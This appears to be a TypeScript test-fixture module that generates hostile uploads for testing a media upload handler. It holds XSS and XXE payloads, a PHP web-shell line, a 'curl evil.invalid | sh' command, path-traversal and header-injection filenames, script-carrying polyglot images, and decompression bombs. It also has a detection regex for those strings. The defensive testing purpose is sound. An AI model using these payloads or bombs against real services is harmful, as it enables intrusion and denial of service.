import { crc32, deflateSync } from 'node:zlib';
import { smallPng } from './files.js';
import { smallMp4 } from './videos.js';
import { movingPicture, still } from './pictures.js';

/** A file from an attacker. */
export type HostileFile = Readonly<{ name: string; content: Buffer }>;

const scripts = [
  '<script>alert(document.cookie)</script>',
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>',
  '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>',
  '<html><body><img src=x onerror=alert(1)></body></html>',
  '#!/bin/sh\ncurl https://evil.invalid | sh\n',
  '<?php system($_GET["c"]); ?>',
  '%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj',
  'MZ\x90\x00 This program cannot be run in DOS mode.',
  'push graphic-context\nviewbox 0 0 640 480\nfill \'url(https://evil.invalid/"|id")\'\npop graphic-context',
  '#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n',
] as const;

/** The magic numbers of accepted files. */
const magics = [
  '89504e470d0a1a0a',
  'ffd8ffe000104a46494600',
  '474946383961',
  '524946462400000057454250',
  '49492a0008000000',
  '0000001866747970697336d',
  '1a45dfa39f42868101',
] as const;

const endings = ['jpg', 'jpeg', 'png', 'gif', 'webp', 'tiff', 'mp4', 'mov', 'm4v', 'webm', 'mkv'] as const;

const names = [
  '../../etc/cron.d/x.png',
  '..\\..\\windows\\x.png',
  '/etc/passwd.png',
  'x.png\0.html',
  'x.svg',
  'x.html',
  'x.php',
  'x.png.svg',
  'x.jpg/../../x.html',
  '<script>alert(1)</script>.png',
  '"; filename=x.html; x=".png',
  'x\r\nSet-Cookie: a=b\r\n.png',
  `${'a'.repeat(300)}.png`,
  '.png',
  'CON.png',
  'x.png?.html',
  '‮gnp.html.png',
] as const;

function chunk(type: string, content: Buffer): Buffer {
  const typed = Buffer.concat([Buffer.from(type, 'latin1'), content]);
  const ends = Buffer.alloc(8);
  ends.writeUInt32BE(content.length, 0);
  ends.writeUInt32BE(crc32(typed), 4);
  return Buffer.concat([ends.subarray(0, 4), typed, ends.subarray(4)]);
}

/** A PNG with one bit a pixel in one colour: a few kilobytes that decompress to any number of pixels. */
export function bomb(side: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header.set([1, 0, 0, 0, 0], 8);
  const rows = Buffer.alloc((Math.ceil(side / 8) + 1) * side);
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(rows)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A GIF with this many frames, each of one colour: a few bytes per frame. */
export function gifBomb(side: number, frames: number): Buffer {
  const size = Buffer.alloc(4);
  size.writeUInt16LE(side, 0);
  size.writeUInt16LE(side, 2);
  const screen = Buffer.concat([Buffer.from('GIF89a'), size, Buffer.from([0x80, 0, 0, 0, 0, 0, 255, 255, 255])]);
  // According to the format (https://www.w3.org/Graphics/GIF/spec-gif89a.txt): control, descriptor, then a clear and an
  // end code.
  const frame = Buffer.concat([
    Buffer.from([0x21, 0xf9, 4, 0, 1, 0, 0, 0, 0x2c, 0, 0, 0, 0]),
    size,
    Buffer.from([0, 2, 2, 0x4c, 0x01, 0]),
  ]);
  return Buffer.concat([screen, ...Array.from({ length: frames }, () => frame), Buffer.from([0x3b])]);
}

/** The start of a lossless WebP with the maximum size, 16,383 pixels a side (RFC 9649, 3.4). */
export function webpBomb(): Buffer {
  const picture = Buffer.from([0x2f, 0xfe, 0xbf, 0xff, 0x0f, 0, 0, 0, 0, 0]);
  const header = Buffer.from('RIFF\0\0\0\0WEBPVP8L\0\0\0\0', 'latin1');
  header.writeUInt32LE(12 + picture.length, 4);
  header.writeUInt32LE(picture.length, 16);
  return Buffer.concat([header, picture]);
}

/** A TIFF with one bit a pixel whose only strip claims to hold all of it (TIFF 6.0, section 2). */
export function tiffBomb(side: number): Buffer {
  const fields = [
    [256, 4, side],
    [257, 4, side],
    [258, 3, 1],
    [259, 3, 1],
    [262, 3, 1],
    [273, 4, 8],
    [277, 3, 1],
    [278, 4, side],
    [279, 4, 8],
  ] as const;
  const file = Buffer.alloc(8 + 2 + fields.length * 12 + 4);
  file.write('II*\0', 'latin1');
  file.writeUInt32LE(8, 4);
  file.writeUInt16LE(fields.length, 8);
  fields.forEach(([tag, type, value], place) => {
    const at = 10 + place * 12;
    file.writeUInt16LE(tag, at);
    file.writeUInt16LE(type, at + 2);
    file.writeUInt32LE(1, at + 4);
    file.writeUInt32LE(value, at + 8);
  });
  return file;
}

/** Decompression bombs. */
export const bombs: readonly HostileFile[] = [
  { name: 'bomb.gif', content: gifBomb(65_535, 1) },
  { name: 'bomb-of-frames.gif', content: gifBomb(4_000, 400) },
  { name: 'bomb.webp', content: webpBomb() },
  { name: 'bomb.tiff', content: tiffBomb(60_000) },
];

/** A valid picture with something after its end, inside a comment, or in its metadata. */
async function polyglots(script: string): Promise<HostileFile[]> {
  const after = Buffer.from(script);
  const png = smallPng(20, 20);
  const [gif, jpeg, webp] = await Promise.all([movingPicture('gif'), still('jpeg'), still('webp')]);
  const comment = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from([0, after.length + 2]), after]);
  const text = chunk('tEXt', Buffer.concat([Buffer.from('Comment\0'), after]));
  return [
    { name: 'after.png', content: Buffer.concat([png, after]) },
    { name: 'text.png', content: Buffer.concat([png.subarray(0, 33), text, png.subarray(33)]) },
    { name: 'after.gif', content: Buffer.concat([gif, after]) },
    { name: 'comment.jpg', content: Buffer.concat([jpeg.subarray(0, 2), comment, jpeg.subarray(2)]) },
    { name: 'after.jpg', content: Buffer.concat([jpeg, after]) },
    { name: 'after.webp', content: Buffer.concat([webp, after]) },
    { name: 'after.mp4', content: Buffer.concat([aVideo(), after]) },
  ];
}

const small = { width: 64, height: 64, rotation: 0 } as const;
const aVideo = () => smallMp4({ ...small, seconds: 1 }, 10);

/** This many files, cycling through all kinds. */
export async function hostileFiles(count: number): Promise<HostileFile[]> {
  const png = smallPng(64, 64);
  const all: HostileFile[] = [
    ...(await Promise.all(scripts.map(polyglots))).flat(),
    ...scripts.flatMap((script, place) =>
      endings.map((ending, number) => ({ name: `script-${place}-${number}.${ending}`, content: Buffer.from(script) })),
    ),
    ...magics.flatMap((magic, place) =>
      scripts.map((script, number) => ({
        name: `magic-${number}.${endings[(place + number) % endings.length]!}`,
        content: Buffer.concat([Buffer.from(magic, 'hex'), Buffer.from(script)]),
      })),
    ),
    ...names.map((name) => ({ name, content: png })),
    ...[11_000, 30_000, 60_000].map((side) => ({ name: `bomb-${side}.png`, content: bomb(side) })),
    ...bombs,
    { name: 'bomb.mp4', content: smallMp4({ ...small, seconds: 60, bomb: true }, 100_000) },
    ...Array.from({ length: 40 }, (_, number) => ({
      name: `cut-${number}.png`,
      content: png.subarray(0, 9 + Math.floor((number * (png.length - 30)) / 40)),
    })),
  ];
  const step = Math.max(1, Math.floor(all.length / count));
  const chosen = all.filter((_, place) => place % step === 0);
  return Array.from({ length: count }, (_, place) => chosen[place % chosen.length]!);
}

/** Strings that must not be in any of our responses. */
export const harm = /<script|<svg|<html|onerror=|<\?php|#!\/bin|JavaScript|graphic-context|EXTM3U/;
